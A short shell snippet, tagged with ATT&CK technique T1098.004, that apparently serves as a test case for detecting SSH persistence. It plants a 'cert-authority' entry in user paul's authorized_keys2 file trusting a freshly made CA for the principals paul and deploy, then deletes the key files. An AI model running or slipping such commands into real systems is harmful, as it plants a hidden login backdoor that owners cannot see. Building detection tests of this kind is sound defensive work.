# technique: T1098.004
# location: linux.ssh.authorized-keys
# source: /home/paul/.ssh/authorized_keys2
ssh-keygen -q -t ecdsa -N '' -C ca -f /tmp/ca9
su paul -c 'mkdir -p -m 700 ~/.ssh'
printf 'cert-authority,principals="paul,deploy" %s\n' "$(cat /tmp/ca9.pub)" | su paul -c 'tee ~/.ssh/authorized_keys2' > /dev/null
rm /tmp/ca9 /tmp/ca9.pub
